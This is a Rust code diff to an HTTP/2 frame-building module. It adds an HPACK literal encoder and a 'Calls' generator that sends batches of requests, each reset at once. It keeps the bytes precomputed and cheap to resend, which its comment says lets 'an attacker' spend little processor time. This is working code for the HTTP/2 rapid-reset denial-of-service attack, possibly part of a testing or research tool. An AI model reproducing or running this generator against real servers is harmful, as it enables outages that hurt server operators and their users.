@@ -56,6 +56,11 @@ pub(crate) fn fields(path: &str) -> [(&str, &str); 6] {
 
 /// Returns header fields as HPACK has them: literals without indexing, not compressed.
 pub(crate) fn block(fields: &[(&str, &str)]) -> Vec<u8> {
+    literals(0, fields)
+}
+
+/// Returns literals of this type.
+fn literals(first: u8, fields: &[(&str, &str)]) -> Vec<u8> {
     let literal = |text: &str| {
         // An integer with a prefix of seven bits.
         let mut length = Vec::new();
@@ -72,7 +77,7 @@ pub(crate) fn block(fields: &[(&str, &str)]) -> Vec<u8> {
         }
         [&length, text.as_bytes()].concat()
     };
-    fields.iter().flat_map(|(name, value)| [vec![0], literal(name), literal(value)].concat()).collect()
+    fields.iter().flat_map(|(name, value)| [vec![first], literal(name), literal(value)].concat()).collect()
 }
 
 /// Returns the headers of a request, whose message is to follow.
@@ -123,4 +128,44 @@ pub(crate) fn priority(stream: u32, on: u32) -> Vec<u8> {
 /// Returns the number of the stream of the call with this index.
 pub(crate) fn stream(call: u32) -> u32 {
     2 * call + 1
+}
+
+/// Calls that a client repeats without making their bytes again: an attacker needs little of its processor.
+pub(crate) struct Calls {
+    bytes: Vec<u8>,
+    count: u32,
+}
+
+// === impl Calls ===
+
+impl Calls {
+    /// Returns calls that are reset at once. The first adds the fields to the table of HPACK, the others have them in a
+    /// byte each.
+    pub(crate) fn reset_at_once(target: Target, count: u32) -> Self {
+        let fields = fields(target.path());
+        let indexed: Vec<_> = (0..u8::try_from(fields.len()).unwrap()).rev().map(|age| 0x80 | (62 + age)).collect();
+        let first = literals(0x40, &fields);
+        let call = |index| {
+            let (stream, block) = (stream(index), if index == 0 { &first } else { &indexed });
+            [frame(Kind::Headers, END_HEADERS, stream, block), message(stream, target.message()), reset(stream)]
+                .concat()
+        };
+        Self { bytes: (0..count).flat_map(call).collect(), count }
+    }
+
+    pub(crate) fn bytes(&self) -> &[u8] {
+        &self.bytes
+    }
+
+    /// Turns them into the next calls of the connection.
+    pub(crate) fn advance(&mut self) {
+        let mut start = 0;
+        while start < self.bytes.len() {
+            let head = &mut self.bytes[start..start + 9];
+            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
+            let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) + 2 * self.count;
+            head[5..].copy_from_slice(&stream.to_be_bytes());
+            start += 9 + length;
+        }
+    }
 }
